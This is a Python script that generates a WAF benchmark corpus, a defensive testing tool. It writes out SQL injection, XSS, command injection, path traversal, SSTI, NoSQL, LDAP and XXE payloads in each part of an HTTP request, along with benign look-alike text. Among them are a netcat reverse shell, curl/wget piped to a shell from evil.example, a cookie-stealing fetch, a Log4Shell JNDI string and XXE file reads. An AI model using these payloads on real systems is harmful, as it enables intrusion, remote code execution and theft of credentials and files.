"""The keyword-dense WAF corpus (row c of the WAF table): ``python bench/waf_corpus.py`` rewrites
``bench/data/waf-dense.jsonl``.

Attack payloads of the usual families (SQLi, XSS, RCE, LFI/RFI, SSTI, NoSQL, LDAP, XXE), written
for this bench (not copied from a licensed list), each placed in every part of a request a WAF
reads: query, path, a header (Cookie), the User-Agent, an urlencoded form, a multipart form, a
JSON body and an XML body; plus benign look-alikes (words and punctuation that resemble attacks)
in the same placements. The records have the shape of ``../shared/waf/*.jsonl`` (method, uri,
headers, body), so one replay path serves all three corpora. ``expect`` is informational: the
bench counts what each engine blocked, it does not judge.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from urllib.parse import quote, urlencode
from xml.sax.saxutils import escape

OUT = Path(__file__).resolve().parent / "data" / "waf-dense.jsonl"

ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM brukere--",
        "'; DROP TABLE saker; --",
        "1 AND SLEEP(5)",
        "saksbehandler'--",
        "1) OR 1=1#",
        "' AND extractvalue(1,concat(0x7e,version()))--",
        "1;WAITFOR DELAY '0:0:5'--",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND '1'='1",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=confirm(1)>",
        "javascript:alert(1)",
        '<iframe src="javascript:alert(2)"></iframe>',
        "\"><body onload=alert('x')>",
        "<a href=# onmouseover=\"fetch('//evil.example/'+document.cookie)\">x</a>",
    ],
    "rce": [
        "; cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "$(wget http://evil.example/x.sh -O- | sh)",
        "`id`",
        "&& curl http://evil.example/p | bash",
        "; powershell -nop -enc SQBFAFgA",
        "${jndi:ldap://evil.example/a}",
    ],
    "lfi_rfi": [
        "../../../../etc/passwd",
        "....//....//....//etc/shadow",
        "/proc/self/environ",
        "http://evil.example/shell.txt?",
        "php://filter/convert.base64-encode/resource=index.php",
        "C:\\Windows\\win.ini",
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= system('id') %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
    ],
    "nosql": [
        '{"$gt": ""}',
        '{"$where": "sleep(1000)"}',
        '{"$ne": null}',
        '{"$regex": ".*"}',
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(objectClass=*",
    ],
}

XXE = [
    '<?xml version="1.0"?><!DOCTYPE sak [<!ENTITY x SYSTEM "file:///etc/passwd">]><sak>&x;</sak>',
    '<?xml version="1.0"?><!DOCTYPE sak [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><sak/>',
    '<?xml version="1.0"?><!DOCTYPE sak [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><sak>&b;</sak>',
]

# Words that look like attacks to a naive filter but are ordinary case-file text.
BENIGN = [
    "Select the union representative for the meeting",
    "drop-down menu and table layout in the form",
    "O'Brien & Sons AS, Storgata 1",
    "price < 100 and > 50 NOK",
    "script for the onboarding video",
    "cat and dog registry update",
    "SELECT a slot from the calendar, then confirm",
    "email ola.nordmann@example.no, tlf 22 33 44 55",
    "1=1 is always true, says the logic course",
    "Where is the document? (see attachment 2)",
    "from: Kari; to: Ola; re: sak 2025/4711",
    "sleep well - the deadline is 14.05",
]

UA = "Mozilla/5.0 (X11; Linux x86_64) portvakt-bench/1"
BASE_HEADERS = {"Host": "localhost", "Accept": "application/json", "User-Agent": UA}


def _rec(
    rid: str, category: str, expect: str, method: str, uri: str, headers: dict[str, str], body: str = ""
) -> dict:
    return {
        "id": rid,
        "category": category,
        "direction": "request",
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": {**BASE_HEADERS, **headers},
        "body": body,
        "body_b64": False,
        "expect": expect,
        "source": "portvakt bench/waf_corpus.py",
    }


def placements(rid: str, category: str, expect: str, payload: str) -> list[dict]:
    """One record per placement of ``payload``."""
    boundary = "----portvaktbench7MA4YWxkTrZu0gW"
    multipart = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="tittel"\r\n\r\nByggesak\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="merknad"\r\n\r\n{payload}\r\n--{boundary}--\r\n'
    )
    return [
        _rec(
            f"{rid}-query",
            category,
            expect,
            "GET",
            "/bench/search?" + urlencode({"q": payload, "side": "1"}),
            {},
        ),
        _rec(f"{rid}-path", category, expect, "GET", "/bench/items/" + quote(payload, safe=""), {}),
        _rec(
            f"{rid}-cookie",
            category,
            expect,
            "GET",
            "/bench/items/42",
            {"Cookie": f"sid=9f2c41; pref={payload}"},
        ),
        _rec(f"{rid}-ua", category, expect, "GET", "/bench/items/42", {"User-Agent": f"{UA} {payload}"}),
        _rec(
            f"{rid}-form",
            category,
            expect,
            "POST",
            "/bench/items",
            {"Content-Type": "application/x-www-form-urlencoded"},
            urlencode({"tittel": "Byggesak", "merknad": payload}),
        ),
        _rec(
            f"{rid}-multipart",
            category,
            expect,
            "POST",
            "/bench/items",
            {"Content-Type": f"multipart/form-data; boundary={boundary}"},
            multipart,
        ),
        _rec(
            f"{rid}-json",
            category,
            expect,
            "POST",
            "/bench/items",
            {"Content-Type": "application/json"},
            json.dumps({"saksnummer": "2025/4711", "merknad": payload}, ensure_ascii=False),
        ),
        _rec(
            f"{rid}-xml",
            category,
            expect,
            "POST",
            "/bench/items",
            {"Content-Type": "application/xml"},
            f'<?xml version="1.0"?><sak><nummer>2025/4711</nummer><merknad>{escape(payload)}</merknad></sak>',
        ),
    ]


def build() -> list[dict]:
    out: list[dict] = []
    for family, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            out += placements(f"dense-{family}-{i}", family, "block", p)
    for i, doc in enumerate(XXE):
        out.append(
            _rec(
                f"dense-xxe-{i}-xml",
                "xxe",
                "block",
                "POST",
                "/bench/items",
                {"Content-Type": "application/xml"},
                doc,
            )
        )
        out.append(
            _rec(f"dense-xxe-{i}-query", "xxe", "block", "GET", "/bench/search?" + urlencode({"q": doc}), {})
        )
    for i, p in enumerate(BENIGN):
        out += placements(f"dense-benign-{i}", "benign", "allow", p)
    return out


def main() -> int:
    recs = build()
    OUT.parent.mkdir(exist_ok=True)
    OUT.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs), encoding="utf-8")
    print(f"{len(recs)} records -> {OUT}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
